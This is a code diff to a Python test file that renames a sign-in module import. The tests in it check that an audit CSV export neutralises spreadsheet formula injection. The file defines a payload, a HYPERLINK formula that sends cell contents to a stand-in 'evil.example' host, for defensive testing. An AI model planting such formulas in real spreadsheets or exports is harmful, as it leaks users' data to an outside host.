@@ -15,7 +15,7 @@ from dollr_core.basics.access import Actor
 from dollr_core.bulk import drafts, progress, recipient_file
 from dollr_core.ledger import audit
 from dollr_core.services import Services
-from dollr_core.team import users
+from dollr_core.team import sign_in
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -48,8 +48,8 @@ def test_a_cell_never_runs_as_a_formula(typed: object, shown: str) -> None:
 
 
 def test_a_sign_in_email_is_neutralised_in_the_audit_export(sqlite_services: Services) -> None:
-    with pytest.raises(users.SignInError):
-        users.sign_in(
+    with pytest.raises(sign_in.SignInError):
+        sign_in.sign_in(
             sqlite_services.engine, EVIL, "whatever it is", client="stranger", sleep=lambda _s: None
         )
     exported = _read(audit.export_csv(audit.table(audit.search(sqlite_services.engine, audit.AuditFilter()))))
